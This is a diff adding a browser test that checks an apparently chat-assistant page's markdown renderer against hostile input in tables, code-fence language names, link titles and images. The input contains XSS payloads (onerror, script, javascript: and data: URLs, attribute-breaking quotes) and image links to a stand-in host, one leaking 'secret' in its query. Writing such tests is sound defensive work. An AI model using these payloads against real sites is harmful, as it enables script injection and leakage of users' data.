@@ -181,3 +181,77 @@ def test_long_unbroken_strings_stay_inside_their_card(watched_page):
     for index, (name, left, top, right, bottom) in enumerate(boxes):
         for other, o_left, o_top, o_right, o_bottom in boxes[index + 1 :]:
             assert right <= o_left or o_right <= left or bottom <= o_top or o_bottom <= top, (name, other)
+
+
+FLAG = "buddyPwned"
+HOSTILE_MARKDOWN = "\n".join(
+    [
+        "| name | note |",
+        "| --- | --- |",
+        f'| <img src=x onerror="window.{FLAG}=1"> | <script>window.{FLAG}=2</script> |',
+        f"| [cell](javascript:window.{FLAG}=3) | ![pixel](https://evil.example/cell.png) |",
+        "",
+        f'```"><img src=x onerror="window.{FLAG}=4"> js',
+        "code",
+        "```",
+        "",
+        f'```js" onmouseover="window.{FLAG}=5',
+        "more code",
+        "```",
+        "",
+        f'[titled](https://example.test/ "x\\" onmouseover=\\"window.{FLAG}=6") '
+        f"[styled](https://example.test/){{style=color:red}} ![leak](https://evil.example/p.png?q=secret) "
+        f"[data](data:text/html,<script>window.{FLAG}=7</script>) [proto](//evil.example/x)",
+        "",
+        f'<a href="https://evil.example" style="position:fixed" onclick="window.{FLAG}=8">raw</a>',
+    ]
+)
+
+
+def test_hostile_markdown_in_a_table_a_code_language_and_a_link_title_runs_nothing(watched_page):
+    """Markdown's new paths (tables, a fence's language name, a link's title, images) in a card, in
+    canvas text and in a reply: no script runs, no handler or style is kept, no other host is asked."""
+    page = watched_page
+    render(
+        page,
+        [
+            {"type": "card", "id": "card", "title": "Card", "body": HOSTILE_MARKDOWN},
+            {"type": "text", "id": "text", "title": "Text", "content": HOSTILE_MARKDOWN},
+        ],
+    )
+    page.evaluate(
+        """async (text) => {
+          const m = await import('/static/buddy/conversation.js');
+          const row = m.assistantMessage({name: 'Buddy', avatar: 'B'}, text, {messageId: 999});
+          document.getElementById('conversation').append(row);
+        }""",
+        HOSTILE_MARKDOWN,
+    )
+    for where in (
+        '#test-canvas article[data-id="card"]',
+        '#test-canvas article[data-id="text"]',
+        "[data-message-id='999']",
+    ):
+        box = page.locator(where)
+        box.locator("table").wait_for()
+        page.locator(f"{where} td").first.hover()
+        page.locator(f"{where} pre").first.hover()
+        page.locator(f"{where} a", has_text="titled").hover()
+        assert box.locator("td").first.inner_text() == '<img src=x onerror="window.buddyPwned=1">'  # as text
+        assert box.locator("script, img[src='x'], [style], iframe, object").count() == 0, where
+        handlers = box.evaluate(
+            "node => [...node.querySelectorAll('*')].flatMap(el => [...el.attributes].map(a => a.name))"
+            ".filter(name => name.startsWith('on'))"
+        )
+        assert handlers == [], where
+        hrefs = box.locator("a[href]").evaluate_all("links => links.map(a => a.getAttribute('href'))")
+        assert all(href.startswith("https://") for href in hrefs), hrefs
+        title = box.locator("a", has_text="titled").get_attribute("title")
+        assert title == 'x" onmouseover="window.buddyPwned=6'  # the whole title, as text
+        labels = box.locator(".code-lang").all_inner_texts()
+        assert labels[0] == '"><img' and labels[1].startswith('js"'), labels  # the name, shown as text
+        assert box.locator("img").count() == 0  # images from a host the page may not load are links
+    page.wait_for_timeout(300)
+    assert page.evaluate(f"window.{FLAG}") is None
+    assert page.foreign_requests == []
+    assert page.evaluate("window.__violations") == []
